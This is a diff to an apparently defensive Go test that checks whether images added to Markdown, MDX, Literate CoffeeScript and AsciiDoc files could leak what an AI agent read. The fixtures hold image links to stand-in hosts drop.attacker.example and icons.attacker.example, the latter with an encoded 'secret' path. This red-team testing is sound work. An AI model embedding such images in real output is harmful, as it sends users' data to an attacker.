@@ -74,6 +74,8 @@ func TestRedTeamImagesCarryWhatTheAgentRead(t *testing.T) {
 			"c.md (an image from camo.githubusercontent.com)"},
 		{"Literate CoffeeScript is Markdown", contained, nil, map[string]string{"src/scope.litcoffee": "Notes ![ok](" + leak + ")\n\n    x = 1\n"}, "src/scope.litcoffee (an image from drop.attacker.example)"},
 		{"MDX is Markdown", contained, nil, map[string]string{"docs/intro.mdx": "# Intro\n\n![ok](" + leak + ")\n"}, "docs/intro.mdx (an image from drop.attacker.example)"},
+		{"AsciiDoc attributes in an image's target and iconsdir", contained, nil, map[string]string{"guide.adoc": ":leak: " + leak + "\n\nimage::{leak}[]\n", "notes.adoc": ":icons: image\n:base: https://icons.attacker.example/c2VjcmV0\n:iconsdir: {base}\n\nNOTE: hi\n"},
+			"guide.adoc (an image from drop.attacker.example)"},
 		{"an allowed host", contained, nil, map[string]string{"README.md": "![ci](https://img.shields.io/badge/x-y-green)\n"}, ""},
 		{"GitHub's own", contained, nil, map[string]string{"README.md": "![a](https://github.com/o/r/actions/workflows/ci.yml/badge.svg) ![b](https://raw.githubusercontent.com/o/r/main/a.png)\n"}, ""},
 		{"an image the file had already", contained, map[string]string{"README.md": "![logo](https://cdn.example/logo.png)\n"},
